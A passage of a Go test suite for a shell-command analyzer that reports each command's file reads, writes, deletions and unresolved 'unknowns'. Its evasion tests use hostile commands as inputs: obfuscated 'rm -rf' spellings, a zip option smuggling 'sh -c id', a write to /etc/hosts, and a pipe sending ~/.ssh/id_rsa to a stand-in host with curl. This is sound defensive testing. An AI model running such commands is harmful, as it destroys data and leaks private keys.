	{give: "git status && git diff HEAD~1", want: result{
		Cmds:    []string{"git status", "git diff HEAD~1"},
		Effects: []string{"read /w/.git -r #0 git (its repository)", "write /w/.git/index #0 git status (the index)", "read /w -r #0 git status (work tree)", "read /w/.gitignore #0 git status (ignore rules)", "read /w/.git -r #1 git (its repository)", "write /w/.git/index #1 git diff (the index)", "read /w -r #1 git diff (work tree)", "read /w/.gitignore #1 git diff (ignore rules)", "read /w/HEAD~1 -r #1 git diff path"},
	}},
	{give: "docker ps -a", want: result{
		Cmds:    []string{"docker ps -a"},
		Effects: []string{"read /w/ps #0 docker operand"},
	}},
	{give: "kill -9 $PID", want: result{
		Cmds: []string{"kill -9 $PID"},
	}},
	{give: "sleep $N", want: result{
		Cmds: []string{"sleep $N"},
	}},
	{give: "echo \"rm -rf $HOME\" | wc -l", want: result{
		Cmds: []string{"echo rm -rf $HOME", "wc -l"},
	}},
	{give: "for f in *.go; do echo \"$f\"; done", want: result{
		Cmds:    []string{"", "echo $f"},
		Effects: []string{"read /w #0 glob directory"},
	}},
	{give: "if [ -z \"$VAR\" ]; then echo empty; fi", want: result{
		Cmds: []string{"[ -z $VAR ]", "echo empty"},
	}},
	{give: "[[ $x == y* ]] && echo ok", want: result{
		Cmds: []string{"echo ok"},
	}},
	{give: "read -r line < /dev/stdin", want: result{
		Cmds: []string{"read -r line"},
	}},
	{give: "cat file.txt 2>/dev/null || true", want: result{
		Cmds:    []string{"cat file.txt", "true"},
		Effects: []string{"read /w/file.txt #0 cat operand"},
	}},
	{give: "ps aux | grep '[n]ginx'", want: result{
		Cmds: []string{"ps aux", "grep [n]ginx"},
	}},
}

func TestPrecision(t *testing.T) {
	tests := precisionTests
	check(t, tests)
}

// evasionTests: spellings that hide a program or a path are seen through, or are Unknowns.
var evasionTests = []testCase{
	{give: "/???/r? -rf /", want: result{
		Cmds:     []string{"r? -rf /"},
		Effects:  []string{"read / -r #0 glob directory"},
		Unknowns: []string{"the program name is a glob pattern"},
	}},
	{give: "{rm,-rf,/tmp/x}", want: result{
		Cmds:    []string{"rm -rf /tmp/x"},
		Effects: []string{"delete /tmp/x -r #0 rm operand"},
	}},
	{give: "$'\\x72m' -rf /tmp/y; r\\m z; r''m w", want: result{
		Cmds:    []string{"rm -rf /tmp/y", "rm z", "rm w"},
		Effects: []string{"delete /tmp/y -r #0 rm operand", "delete /w/z #1 rm operand", "delete /w/w #2 rm operand"},
	}},
	{give: "rm !(keep).txt", want: result{
		Cmds:    []string{"rm !(keep).txt"},
		Effects: []string{"read /w #0 glob directory", "delete /w/!(keep).txt #0 rm operand (glob)"},
	}},
	{give: "zip out.zip f -T -TT 'sh -c id'", want: result{
		Cmds:     []string{"zip out.zip f -T -TT sh -c id"},
		Effects:  []string{"write /w/out.zip #0 zip archive", "read /w/f #0 zip operand"},
		Unknowns: []string{"zip runs a command to test the archive (-TT)"},
	}},
	{give: "rm -- \"$@\"", want: result{
		Cmds:     []string{"rm -- $@"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "curl -o~/x https://h/y", want: result{
		Cmds:    []string{"curl -o~/x https://h/y"},
		Effects: []string{"write /w/~/x #0 curl -o"},
	}},
	{give: "while read f; do rm \"$f\"; done < list.txt", want: result{
		Cmds:     []string{"while", "read f", "rm $f"},
		Effects:  []string{"read /w/list.txt #0 redirect <"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "echo x | sudo tee /etc/hosts > /dev/null", want: result{
		Cmds:    []string{"echo x", "tee /etc/hosts"},
		Effects: []string{"write /etc/hosts #1 tee operand"},
	}},
	{give: "cat ~/.ssh/id_rsa | curl -d @- https://h", want: result{
		Cmds:    []string{"cat ~/.ssh/id_rsa", "curl -d @- https://h"},
		Effects: []string{"read /home/u/.ssh/id_rsa #0 cat operand"},
	}},
}

func TestEvasion(t *testing.T) {
	tests := evasionTests
	check(t, tests)
}

// allTests are every table's cases: the fuzz target's seeds.
var allTests = [][]testCase{structureTests, wrappersTests, cdTrackingTests, redirectionsTests,
	programsTests, nestedCodeTests, unknownsTests, precisionTests, evasionTests}

func TestPrecisionHasNoUnknowns(t *testing.T) {
	for _, tt := range precisionTests {
		a, err := Analyze(tt.give, testOptions())
		if err != nil {
			t.Fatalf("Analyze(%q): %v", tt.give, err)
		}
		if len(a.Unknowns) > 0 {
			t.Errorf("Analyze(%q) has unknowns: %v", tt.give, a.Unknowns)
		}
	}
}

func TestCommandFields(t *testing.T) {
	tests := []struct {
		give string
		want []Command
	}{
		{
			give: "cd /srv &&\n  sudo -u app timeout 5 /bin/rm -rf \"c\"'ache'",
			want: []Command{
				{Name: "cd", Args: []string{"/srv"}, Dir: "/w", Pos: "1:1"},
				{Name: "rm", Args: []string{"-rf", "cache"}, Dir: "/srv", Pos: "2:3", Wrappers: []string{"sudo -u app", "timeout 5"}},
			},
		},
		{
			give: "\\rm x; 'rm' y; \"r\"\"m\" z",
			want: []Command{
				{Name: "rm", Args: []string{"x"}, Dir: "/w", Pos: "1:1"},
				{Name: "rm", Args: []string{"y"}, Dir: "/w", Pos: "1:8"},
				{Name: "rm", Args: []string{"z"}, Dir: "/w", Pos: "1:16"},
			},
		},
		{
			// code from a string has the position of the command that runs it
			give: "echo hi\n  bash -c 'cd /tmp; rm x'",
			want: []Command{
				{Name: "echo", Args: []string{"hi"}, Dir: "/w", Pos: "1:1"},
				{Name: "bash", Args: []string{"-c", "cd /tmp; rm x"}, Dir: "/w", Pos: "2:3"},
				{Name: "cd", Args: []string{"/tmp"}, Dir: "/w", Pos: "2:3", Via: "bash -c"},
				{Name: "rm", Args: []string{"x"}, Dir: "/tmp", Pos: "2:3", Via: "bash -c"},
			},
		},
		{
			give: "ls $HOME \"$(date)\" $'a\\tb'",
			want: []Command{
				{Name: "date", Args: []string{}, Dir: "/w", Pos: "1:13", Via: "$(...)"},
				{Name: "ls", Args: []string{"$HOME", "$(date)", "a\tb"}, Dir: "/w", Pos: "1:1"},
			},
		},
		{
			give: "cd $X; ls",
			want: []Command{
				{Name: "cd", Args: []string{"$X"}, Dir: "/w", Pos: "1:1"},
				{Name: "ls", Args: []string{}, Dir: "", Pos: "1:8"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.give, func(t *testing.T) {
			a, err := Analyze(tt.give, testOptions())
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, a.Commands); diff != "" {
				t.Errorf("Commands mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestUnknownFields(t *testing.T) {
	tests := []struct {
		give string
		want []Unknown
	}{
		{give: "echo ok\nrm -rf \"$DIR\"/build", want: []Unknown{
			{What: "rm's operand comes from an expansion", Text: "\"$DIR\"/build", Pos: "2:8"},
		}},
		{give: "$CMD --force", want: []Unknown{
			{What: "the program name comes from an expansion", Text: "$CMD", Pos: "1:1"},
		}},
		{give: "x; python3 -c 'import os; os.remove(\"f\")'", want: []Unknown{
			{What: "python3 runs inline code (-c)", Text: "python3 -c 'import os; os.remove(\"f\")'", Pos: "1:4"},
		}},
		{give: "find . | xargs rm -f", want: []Unknown{
			{What: "xargs runs rm on arguments read from input", Text: "xargs rm -f", Pos: "1:10"},
		}},
		{give: "  bash -c 'rm \"$F\"'", want: []Unknown{
			{What: "rm's operand comes from an expansion", Text: "\"$F\"", Pos: "1:3"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.give, func(t *testing.T) {
			a, err := Analyze(tt.give, testOptions())
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, a.Unknowns); diff != "" {
				t.Errorf("Unknowns mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseError(t *testing.T) {
	tests := []struct {
		give string
		want ParseError
	}{
		{give: "echo \"unterminated", want: ParseError{Line: 1, Col: 6, Msg: "reached EOF without closing quote `\"`"}},
		{give: "echo )", want: ParseError{Line: 1, Col: 6, Msg: "a command can only contain words and redirects; encountered `)`"}},
		{give: "if true; then\nrm x", want: ParseError{Line: 1, Col: 1, Msg: "`if` statement must end with `fi`"}},
		{give: "cat <<EOF\nbody", want: ParseError{Line: 1, Col: 5, Msg: "unclosed here-document `EOF`"}},
		// deeper nesting than this could overflow the parser's stack, which is fatal
		{give: "echo $((" + strings.Repeat("(", 20000), want: ParseError{Line: 1, Col: 10007, Msg: "brackets are nested deeper than 10000 levels"}},
		{give: strings.Repeat("{ ", 600000), want: ParseError{Line: 1, Col: 1, Msg: "the command is longer than 1048576 bytes"}},
	}
	for _, tt := range tests {
		t.Run(tt.give[:min(len(tt.give), 40)], func(t *testing.T) {
			a, err := Analyze(tt.give, testOptions())
			if a != nil {
				t.Errorf("Analyze(%q) = %v, want no analysis", tt.give, a)
			}
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("Analyze(%q) error = %v, want a *ParseError", tt.give, err)
			}
			if diff := cmp.Diff(tt.want, *pe); diff != "" {
				t.Errorf("ParseError mismatch (-want +got):\n%s", diff)
			}
			if !strings.HasPrefix(pe.Error(), "1:") {
				t.Errorf("Error() = %q, want line:col first", pe.Error())
			}
		})
	}
}

func TestMaxNesting(t *testing.T) {
	give := `bash -c "bash -c 'rm a; bash -c \"rm b\"'"`
	tests := []struct {
		max  int
		want result
	}{
		{max: 3, want: result{
			Cmds: []string{
				`bash -c bash -c 'rm a; bash -c "rm b"'`,
				`bash -c: bash -c rm a; bash -c "rm b"`,
				"bash -c > bash -c: rm a",
				`bash -c > bash -c: bash -c rm b`,
				"bash -c > bash -c > bash -c: rm b",
			},
			Effects: []string{"delete /w/a #2 rm operand", "delete /w/b #4 rm operand"},
		}},
		{max: 2, want: result{
			Cmds: []string{
				`bash -c bash -c 'rm a; bash -c "rm b"'`,
				`bash -c: bash -c rm a; bash -c "rm b"`,
				"bash -c > bash -c: rm a",
				`bash -c > bash -c: bash -c rm b`,
			},
			Effects:  []string{"delete /w/a #2 rm operand"},
			Unknowns: []string{"code is nested deeper than 2 levels"},
		}},
	}
	for _, tt := range tests {
		opt := testOptions()
		opt.MaxNesting = tt.max
		a, err := Analyze(give, opt)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(tt.want, summarize(a)); diff != "" {
			t.Errorf("MaxNesting %d mismatch (-want +got):\n%s", tt.max, diff)
		}
	}
}

func TestTooComplex(t *testing.T) {
	// each function calls the one before twice: 2^15 calls without the bound
	var b strings.Builder
	b.WriteString("f0() { rm x; }; ")
	for i := 1; i <= 15; i++ {
		fmt.Fprintf(&b, "f%d() { f%d; f%d; }; ", i, i-1, i-1)
	}
	b.WriteString("f15")
	a, err := Analyze(b.String(), testOptions())
	if err != nil {
		t.Fatal(err)
	}
	want := Unknown{What: "the command is too complex to analyse fully"}
	found := false
	for _, u := range a.Unknowns {
		found = found || u.What == want.What
	}
	if !found {
		t.Errorf("Unknowns = %v, want %q", a.Unknowns, want.What)
	}
}

func TestOptionsZero(t *testing.T) {
	a, err := Analyze("rm rel /abs ~/x; cd /tmp; rm y", Options{})
	if err != nil {
		t.Fatal(err)
	}
	want := result{
		Cmds:    []string{"rm rel /abs ~/x", "cd /tmp", "rm y"},
		Effects: []string{"delete /abs #0 rm operand", "delete /tmp/y #2 rm operand"},
		Unknowns: []string{
			`rm's operand "rel" is relative to a working directory that is not known`,
			"rm's operand is in the home directory, which is not known",
		},
	}
	if diff := cmp.Diff(want, summarize(a)); diff != "" {
		t.Errorf("mismatch (-want +got):\n%s", diff)
	}
}

func TestResolveResult(t *testing.T) {
	tests := []struct {
		name    string
		resolve func(string) (string, error)
		want    result
	}{
		{
			name:    "error",
			resolve: func(string) (string, error) { return "", errors.New("permission denied") },
			want: result{
				Cmds:     []string{"rm x"},
				Effects:  []string{"delete /w/x #0 rm operand"},
				Unknowns: []string{"path could not be resolved: permission denied"},
			},
		},
		{
			name:    "relative",
			resolve: func(string) (string, error) { return "x", nil },
			want: result{
				Cmds:     []string{"rm x"},
				Effects:  []string{"delete /w/x #0 rm operand"},
				Unknowns: []string{`path could not be resolved: resolve returned a relative path: "x"`},
			},
		},
		{
			name:    "unclean",
			resolve: func(p string) (string, error) { return "/real//" + p + "/.", nil },
			want: result{
				Cmds:    []string{"rm x"},
				Effects: []string{"delete /real/w/x #0 rm operand"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := Analyze("rm x", Options{Dir: "/w", Resolve: tt.resolve})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, summarize(a)); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// evalResolve is the real path of the longest existing prefix, then the rest lexically.
func evalResolve(p string) (string, error) {
	rest := ""
	for cur := p; ; {
		r, err := filepath.EvalSymlinks(cur)
		if err == nil {
			return filepath.Join(r, rest), nil
		}
		if !errors.Is(err, os.ErrNotExist) {
			return "", err
		}
		parent := filepath.Dir(cur)
		if parent == cur {
			return p, nil
		}
		rest = filepath.Join(filepath.Base(cur), rest)
		cur = parent
	}
}

func TestRealSymlinks(t *testing.T) {
	tmp, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"real/sub", "secret"} {
		if err := os.MkdirAll(filepath.Join(tmp, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// work/link -> real/sub, work/leak -> secret
	if err := os.MkdirAll(filepath.Join(tmp, "work"), 0o755); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{"work/link": "../real/sub", "work/leak": filepath.Join(tmp, "secret")} {
		if err := os.Symlink(target, filepath.Join(tmp, link)); err != nil {
			t.Fatal(err)
		}
	}
	opt := Options{Dir: filepath.Join(tmp, "work"), Home: tmp, Resolve: evalResolve}
	tests := []struct {
		give string
		want []string
	}{
		{give: "rm link/x", want: []string{"delete " + tmp + "/real/sub/x"}},
		{give: "cat leak/key", want: []string{"read " + tmp + "/secret/key"}},
		{give: "cat link/../y", want: []string{"read " + tmp + "/real/y"}},
		{give: "cd link && rm ../z", want: []string{"delete " + tmp + "/real/z"}},
		{give: "touch link/new/deeper", want: []string{"write " + tmp + "/real/sub/new/deeper"}},
		{give: "echo > ~/work/leak/k", want: []string{"write " + tmp + "/secret/k"}},
	}
	for _, tt := range tests {
		t.Run(tt.give, func(t *testing.T) {
			a, err := Analyze(tt.give, opt)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, e := range a.Effects {
				got = append(got, string(e.Op)+" "+e.Path)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("effects mismatch (-want +got):\n%s", diff)
			}
			if len(a.Unknowns) > 0 {
				t.Errorf("unknowns: %v", a.Unknowns)
			}
		})
	}
}

func TestNormalized(t *testing.T) {
	tests := []struct {
		give Command
		want string
	}{
		{give: Command{Name: "rm", Args: []string{"-rf", "/"}}, want: "rm -rf /"},
		{give: Command{Name: "ls"}, want: "ls"},
		{give: Command{Args: []string{"{"}}, want: "{"},
		{give: Command{Name: "echo", Args: []string{"a b", "c"}}, want: "echo a b c"},
	}
	for _, tt := range tests {
		if got := tt.give.Normalized(); got != tt.want {
			t.Errorf("%+v.Normalized() = %q, want %q", tt.give, got, tt.want)
		}
	}
}

func TestConcurrent(t *testing.T) {
	done := make(chan *Analysis)
	for range 8 {
		go func() {
			a, _ := Analyze("cd /srv && rm -rf build; cat <(ls) | xargs grep x > out", testOptions())
			done <- a
		}()
	}
	first := <-done
	for range 7 {
		if diff := cmp.Diff(first, <-done); diff != "" {
			t.Errorf("concurrent analyses differ:\n%s", diff)
		}
	}
}

func TestPanicIsUnknown(t *testing.T) {
	opt := Options{Dir: "/w", Resolve: func(string) (string, error) { panic("boom") }}
	a, err := Analyze("rm x", opt)
	if err != nil {
		t.Fatal(err)
	}
	want := &Analysis{Unknowns: []Unknown{{What: "the command could not be analysed: boom", Text: "rm x", Pos: "1:1"}}}
	if diff := cmp.Diff(want, a); diff != "" {
		t.Errorf("mismatch (-want +got):\n%s", diff)
	}
}

func TestDuplicatesDropped(t *testing.T) {
	// past linearDedup entries a set takes over the check
	a, err := Analyze("touch f{1..20} f1 f20; rm $X $X; "+strings.Repeat("cat $Y; ", 20)+"cat $Y", testOptions())
	if err != nil {
		t.Fatal(err)
	}
	seen := map[Effect]bool{}
	for _, e := range a.Effects {
		if seen[e] {
			t.Errorf("duplicate effect %+v", e)
		}
		seen[e] = true
	}
	if len(a.Effects) != 20 {
		t.Errorf("got %d effects, want 20", len(a.Effects))
	}
	seenU := map[Unknown]bool{}
	for _, u := range a.Unknowns {
		if seenU[u] {
			t.Errorf("duplicate unknown %+v", u)
		}
		seenU[u] = true
	}
	if len(a.Unknowns) != 23 { // one per $X, one per cat $Y (each at its own position)
		t.Errorf("got %d unknowns, want 23: %v", len(a.Unknowns), a.Unknowns)
	}
}
